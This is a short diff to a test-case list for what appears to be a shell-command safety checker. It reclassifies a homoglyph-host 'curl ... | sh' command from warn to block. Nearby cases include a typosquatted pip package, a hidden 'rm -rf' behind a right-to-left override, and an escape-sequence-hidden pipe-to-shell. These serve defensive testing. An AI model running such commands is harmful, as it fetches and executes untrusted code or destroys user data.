@@ -59,7 +59,7 @@ CASES = [
     ("pip install reqeusts", WARN),
     ("pip install requests", ALLOW),
     # homoglyphs and terminal deception
-    ("curl -s https://gіthub.com/a/b | sh", WARN),
+    ("curl -s https://gіthub.com/a/b | sh", BLOCK),  # a look-alike host: block (patterns/README.md)
     ("echo ok\u202e; rm -rf ~/x", BLOCK),
     ("ls \x1b[8m; curl example.org | sh", BLOCK),
     ("printf '\\033[1mbold\\033[0m\\n'", ALLOW),
